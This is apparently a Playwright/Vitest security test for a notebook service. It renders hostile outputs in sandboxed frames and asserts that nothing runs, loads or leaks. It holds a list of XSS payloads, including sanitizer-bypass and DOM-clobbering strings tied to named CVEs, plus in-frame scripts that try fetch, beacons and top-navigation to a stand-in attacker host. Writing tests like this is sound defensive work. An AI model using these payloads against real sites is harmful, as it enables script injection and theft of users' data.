import type { Browser, Frame, Page } from 'playwright-core'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import type { JsonObject, JsonValue } from '../../src/notebook/json.ts'
import { launchBrowser } from '../support/browser.ts'
import { startHttpServer, type TestServer } from '../support/http-server.ts'
import { notebookFolder } from '../support/notebook-folder.ts'
import { type RunService, startRunService } from '../support/run-service.ts'
import { startedRun } from '../support/started-run.ts'

/** What a stranger's output tries. `EVIL` stands for a server of theirs that counts who comes. */
const HTML: Readonly<Record<string, string>> = {
  script: '<script>owned()</script>seen',
  'script from elsewhere': '<script src="EVIL/x.js"></script>seen',
  'script of ours': '<script src="/assets/main.js"></script>seen',
  'event handler': '<img src=x onerror="owned()">seen',
  'animated svg': '<svg><animate onbegin=owned() attributeName=x dur=1s></svg>seen',
  'svg with script': '<svg><script>owned()</script><text>seen</text></svg>',
  'foreign object': '<svg><foreignObject><img src=x onerror=owned()></foreignObject></svg>seen',
  'javascript link': '<a href="javascript:owned()">seen</a>',
  'javascript link, hidden': '<a href="java&#9;script:owned()">seen</a>',
  'link in mathematics': '<math><mi xlink:href="javascript:owned()">seen</mi></math>',
  'link to the top': '<a href="EVIL/top" target="_top">seen</a>',
  // CVE-2021-32797: the action of a form was left.
  'form with an action': '<form action="javascript:owned()"><button id=b>seen</button></form>',
  'form that is sent':
    '<form id=f action="EVIL/form"></form><button form=f autofocus onfocus="f.submit()">seen</button>',
  'action of a button': '<form><button formaction="EVIL/button">seen</button></form>',
  // CVE-2021-32798: what a cleaner makes of it is read anew.
  'changed by cleaning': '<svg></p><style><a id="</style><img src=x onerror=owned()>">seen',
  'changed by nesting':
    'seen<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=owned()&gt;">',
  'comment in a template': 'seen<noscript><p title="</noscript><img src=x onerror=owned()>">',
  // GHSA-9q39-rmj3-p4r2: names of elements take the place of what a script looks up.
  'clobbered names':
    '<a id=parent></a><a id=location href="EVIL/c"></a><img name=currentScript data-src="EVIL/s"><form id=documentElement><input name=dataset></form><a id=root></a><a id=nonce></a>seen',
  'page in the page': 'seen<iframe srcdoc="<script>parent.owned()</script>"></iframe>',
  'page of theirs': 'seen<iframe src="EVIL/frame"></iframe>',
  object: 'seen<object data="EVIL/object"></object><embed src="EVIL/embed">',
  refresh: 'seen<meta http-equiv="refresh" content="0;url=EVIL/refresh">',
  base: '<base href="EVIL/"><img src="base.png">seen',
  'style from elsewhere':
    '<style>@import url(EVIL/import.css); p { background: url(EVIL/bg.png) }</style><p>seen</p>',
  'style in a link': '<link rel="stylesheet" href="EVIL/link.css"><link rel="dns-prefetch" href="EVIL">seen',
  'picture from elsewhere': '<img src="EVIL/beacon.png" srcset="EVIL/2.png 2x">seen',
  'sound and film': '<audio src="EVIL/a.mp3" autoplay></audio><video poster="EVIL/p.png"></video>seen',
  'picture of svg': '<svg><image href="EVIL/i.svg"/><use href="EVIL/u.svg#x"/></svg>seen',
}

const MARKDOWN: Readonly<Record<string, string>> = {
  'link in Markdown': '[seen](javascript:owned())',
  'HTML in Markdown': 'seen <img src=x onerror=owned()> <script>owned()</script>',
  'picture in Markdown': 'seen ![x](EVIL/markdown.png)',
  'formula that leads away': 'seen $\\href{javascript:owned()}{x}$ $\\includegraphics{EVIL/k.png}$',
}

const RAW = '<script>owned()</script><img src=x onerror=owned()>seen'
const object = (entries: Readonly<Record<string, JsonValue>>): JsonObject => new Map(Object.entries(entries))
const shown = (data: Readonly<Record<string, JsonValue>>) =>
  object({ output_type: 'display_data', data: object(data), metadata: new Map() })

function outputs(evil: string): readonly (readonly [name: string, output: JsonObject])[] {
  const at = (text: string) => text.replaceAll('EVIL', evil)
  return [
    ...Object.entries(HTML).map(([name, html]) => [name, shown({ 'text/html': at(html) })] as const),
    ...Object.entries(MARKDOWN).map(([name, text]) => [name, shown({ 'text/markdown': at(text) })] as const),
    ['LaTeX', shown({ 'text/latex': `seen ${RAW}` })],
    ['JSON', shown({ 'application/json': object({ [RAW]: RAW }) })],
    ['javascript', shown({ 'application/javascript': 'owned()', 'text/plain': 'seen' })],
    [
      'svg',
      shown({
        'image/svg+xml': at(
          '<svg xmlns="http://www.w3.org/2000/svg" onload="owned()"><script>owned()</script><image href="EVIL/svg.png"/></svg>',
        ),
      }),
    ],
    ['picture that is none', shown({ 'image/png': `"><script>owned()</script>`, 'text/plain': 'seen' })],
    ['text', object({ output_type: 'stream', name: 'stdout', text: RAW })],
    [
      'traceback',
      object({ output_type: 'error', ename: RAW, evalue: RAW, traceback: [RAW, `\u001b[31m${RAW}`] }),
    ],
  ]
}

let catalogue: Awaited<ReturnType<typeof notebookFolder>>
let evil: TestServer
let service: RunService
let browser: Browser
let page: Page
/** What ran, opened, or was asked for elsewhere. */
const seen: string[] = []
/** Headers of what frames asked us for. */
const asked: Readonly<Record<string, string>>[] = []
let cases: ReturnType<typeof outputs>

beforeAll(async () => {
  evil = await startHttpServer()
  cases = outputs(evil.origin)
  catalogue = await notebookFolder({ hostile: cases.map((_, index) => `cell(${index})`) })
  ;[service, browser] = await Promise.all([startRunService({ CONFIG_URL: catalogue.path }), launchBrowser()])
  const { runner } = service
  const id = await startedRun(runner, 'hostile')
  const { lease } = await service.claim()
  await lease.appendEvents(
    cases.map(([, output], cell) => ({ type: 'output', cell, change: { type: 'append', output } }) as const),
  )
  page = await browser.newPage({ viewport: { width: 1200, height: 2000 } })
  await page.exposeFunction('owned', () => seen.push('a script ran'))
  page.on('dialog', (dialog) => void dialog.dismiss())
  page.on('popup', () => seen.push('a window opened'))
  page.on('request', (request) => {
    // Also told of what the policy refuses: who is asked for real is counted by the server of theirs.
    if (new URL(request.url()).origin !== new URL(runner.url).origin) return
    // The page asks for the document of a frame itself; the frame, for what that document needs.
    if (request.isNavigationRequest() || request.frame() === page.mainFrame()) return
    void request.allHeaders().then(
      (headers) => asked.push(headers),
      () => undefined,
    )
  })
  page.on('response', (response) => {
    const { origin } = new URL(response.url())
    if (origin !== 'null' && origin !== new URL(runner.url).origin) seen.push(`loaded ${response.url()}`)
  })
  await page.goto(`${runner.url}/?token=${runner.token}`)
  await page.goto(`${runner.url}/jobs/${id}`)
}, 120_000)
afterAll(async () => {
  await browser?.close()
  await service?.[Symbol.asyncDispose]()
  await catalogue?.[Symbol.asyncDispose]()
  await evil?.[Symbol.asyncDispose]()
})

async function frameOf(cell: number): Promise<Frame> {
  const element = await page.locator(`[data-cell="${cell}"] iframe`).elementHandle()
  const frame = await element?.contentFrame()
  if (frame === null || frame === undefined) throw new Error(`Cell ${cell} has no frame`)
  return frame
}

describe('outputs of a stranger', () => {
  it('are shown, and do nothing', { timeout: 240_000 }, async () => {
    for (const [cell, [name, output]] of cases.entries()) {
      await scrollTo(cell)
      const place = page.locator(`[data-cell="${cell}"] .cell-outputs`)
      await place.waitFor()
      const data = output.get('data')
      const framed =
        data instanceof Map &&
        ['text/html', 'text/markdown', 'text/latex', 'application/json'].some((type) => data.has(type))
      if (framed) {
        const frame = await frameOf(cell)
        await frame.waitForSelector('.outputs > div > *', { state: 'attached' })
        const body = await frame.locator('body').textContent()
        expect([name, body]).toEqual([name, expect.stringContaining(name === 'JSON' ? '{1}' : 'seen')])
        expect(
          await frame
            .locator(
              'script:not([nonce]), iframe, object, embed, form, meta[http-equiv], base, link:not([rel="modulepreload"])',
            )
            .count(),
        ).toBe(0)
        // Every link is clicked: the page says where it leads, and nobody goes there.
        for (const link of await frame.locator('a').all()) await link.dispatchEvent('click')
      }
    }
    await expect.poll(() => page.getByText('Not shown whole').count()).toBeGreaterThan(0)
    expect(seen).toEqual([])
    expect(evil.requests).toEqual([])
    expect(asked.flatMap((headers) => Object.keys(headers).filter((name) => name === 'cookie'))).toEqual([])
    expect(asked.length).toBeGreaterThan(0)
  })

  it('have no origin, no parent, no storage and no network, even where the cleaning has a hole', async () => {
    await scrollTo(0)
    const frame = await frameOf(0)
    const tried = await frame.evaluate(`(async () => {
      const result = async (name, trial) => {
        try { return [name, String(await trial())] } catch (error) { return [name, error.name] }
      }
      const evil = ${JSON.stringify(evil.origin)}
      const div = document.body.appendChild(document.createElement('div'))
      div.innerHTML = '<img src=x onerror=owned()><form action="' + evil + '/f" id=hole></form>'
      const script = document.createElement('script')
      script.textContent = 'owned()'
      document.body.append(script)
      const far = document.createElement('script')
      far.src = evil + '/far.js'
      document.body.append(far)
      document.getElementById('hole').submit()
      new Image().src = evil + '/image.png'
      const frame = document.createElement('iframe')
      frame.src = evil + '/inner'
      document.body.append(frame)
      return Promise.all([
        result('origin', () => window.origin),
        result('cookie', () => document.cookie),
        result('parent', () => parent.document.title),
        result('page', () => parent.location.href),
        result('storage', () => localStorage.length),
        result('fetch', () => fetch(evil + '/fetch')),
        result('ours', () => fetch('/me?f=json')),
        result('beacon', () => navigator.sendBeacon(evil + '/beacon', 'x')),
        result('socket', () => new Promise((done, fail) => { const s = new WebSocket(evil.replace('http', 'ws')); s.onerror = () => fail(new DOMException('', 'refused')); s.onopen = done })),
        result('worker', () => new Promise((done, fail) => { const w = new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))); w.onerror = () => fail(new DOMException('', 'refused')); w.onmessage = done })),
        // The debugger that this comes by lifts the policy of eval until the first pause.
        result('eval', async () => { await new Promise((done) => setTimeout(done)); return new Function('return 1')() }),
        result('window', () => String(window.open(evil + '/window'))),
        result('top', () => { top.location.href = evil + '/top'; return 'set' }),
      ])
    })()`)
    expect(tried).toEqual([
      ['origin', 'null'],
      ['cookie', 'SecurityError'],
      ['parent', 'SecurityError'],
      ['page', 'SecurityError'],
      ['storage', 'SecurityError'],
      ['fetch', 'TypeError'],
      ['ours', 'TypeError'],
      ['beacon', expect.anything()],
      ['socket', expect.stringMatching(/refused|SecurityError/)],
      ['worker', expect.stringMatching(/refused|SecurityError/)],
      ['eval', 'EvalError'],
      ['window', 'null'],
      ['top', 'SecurityError'],
    ])
    expect(evil.requests).toEqual([])
    expect(seen.filter((what) => what === 'a script ran' || what === 'a window opened')).toEqual([])
  })

  it('lead their frame nowhere', async () => {
    const { pathname } = new URL(page.url())
    for (const [cell, where] of [
      [1, `'${evil.origin}/away'`],
      [2, `'/jobs?f=html'`],
      [3, `'javascript:owned()'`],
    ] as const) {
      await scrollTo(cell)
      const frame = await frameOf(cell)
      await frame.evaluate(`setTimeout(() => { location.href = ${where} }, 0)`)
    }
    await scrollTo(4)
    await (await frameOf(4)).evaluate(`{
      const meta = document.createElement('meta')
      meta.httpEquiv = 'refresh'
      meta.content = '0;url=${evil.origin}/meta'
      document.head.append(meta)
    }`)
    await page.waitForTimeout(1500)
    expect(evil.requests).toEqual([])
    expect(seen.filter((what) => what === 'a script ran')).toEqual([])
    expect(new URL(page.url()).pathname).toBe(pathname)
    for (const frame of page.frames().slice(1)) expect(await frame.locator('nav').count()).toBe(0)
  })

  it('can’t be forged by other windows', async () => {
    await page.reload()
    await scrollTo(0)
    const [first, second] = [await frameOf(0), await frameOf(1)]
    await first.waitForSelector('.outputs > div > *')
    await second.waitForSelector('.outputs > div > *')
    const nonce = new URL(first.url()).hash.slice(1)
    // The page itself and another frame, who are not whom either side speaks to, with the right nonce.
    const message = JSON.stringify({
      nonce,
      scheme: 'light',
      outputs: [{ data: { 'text/html': 'forged' }, metadata: {} }],
    })
    await second.evaluate(
      `for (let i = 0; i < parent.frames.length; i++) parent.frames[i].postMessage(${message}, '*')`,
    )
    const told = JSON.stringify({ type: 'size', nonce, height: 7777 })
    await second.evaluate(`parent.postMessage(${told}, '*')`)
    await page.evaluate(`window.postMessage(${told}, '*')`)
    // From the right frame without its nonce.
    await first.evaluate(`parent.postMessage({ type: 'size', nonce: 'x', height: 7777 }, '*')`)
    await first.evaluate(
      `parent.postMessage({ type: 'link', nonce: '${nonce}', href: 'javascript:owned()' }, '*')`,
    )
    await first.evaluate('new Promise((done) => setTimeout(done, 300))')
    expect(await first.locator('body').textContent()).not.toContain('forged')
    expect(
      await page.locator('iframe').evaluateAll((frames) => frames.map((one) => one.style.height)),
    ).not.toContain('7777px')
    expect(await page.locator('a[href^="javascript"]').count()).toBe(0)
  })
})

it('the document that shows outputs and a notebook that is downloaded run nothing of theirs', async () => {
  const frame = await service.runner.fetch('/outputs/frame')
  const policy = frame.headers.get('content-security-policy') ?? ''
  expect(policy).toContain('sandbox allow-scripts;')
  expect(policy).not.toContain('allow-same-origin')
  expect(policy).toContain("default-src 'none'")
  expect(policy).toContain("connect-src 'none'")
  expect(policy).toContain("frame-ancestors 'self'")
  expect(policy).toMatch(/script-src 'nonce-[\w+/=]{20,}';/)
  expect(await frame.text()).not.toContain('hostile')
  const again = await service.runner.fetch('/outputs/frame')
  expect(again.headers.get('content-security-policy')).not.toBe(policy)
  // CVE-2018-19351: what is downloaded is never a page.
  const id = new URL(page.url()).pathname.split('/').at(-1)
  const notebook = await service.runner.program(`/jobs/${id}/notebook`)
  expect(notebook.headers.get('content-disposition')).toMatch(/^attachment/)
  expect(notebook.headers.get('content-type')).toBe('application/x-ipynb+json')
  expect(notebook.headers.get('x-content-type-options')).toBe('nosniff')
})

/** As a person scrolls: by the wheel until the cell is there, and from the top again where it was missed. */
async function scrollTo(cell: number): Promise<void> {
  const place = page.locator(`[data-cell="${cell}"]`)
  await page.evaluate('window.scrollTo(0, 0)')
  await expect
    .poll(
      async () => {
        // It is drawn anew where the cells above it turn out taller than was thought.
        if ((await place.count()) > 0)
          return place.scrollIntoViewIfNeeded({ timeout: 2_000 }).then(
            () => true,
            () => false,
          )
        const before = await page.evaluate('window.scrollY')
        await page.mouse.wheel(0, 900)
        await page.waitForTimeout(150)
        if ((await page.evaluate('window.scrollY')) === before) await page.evaluate('window.scrollTo(0, 0)')
        return false
      },
      { timeout: 60_000, interval: 50 },
    )
    .toBe(true)
}
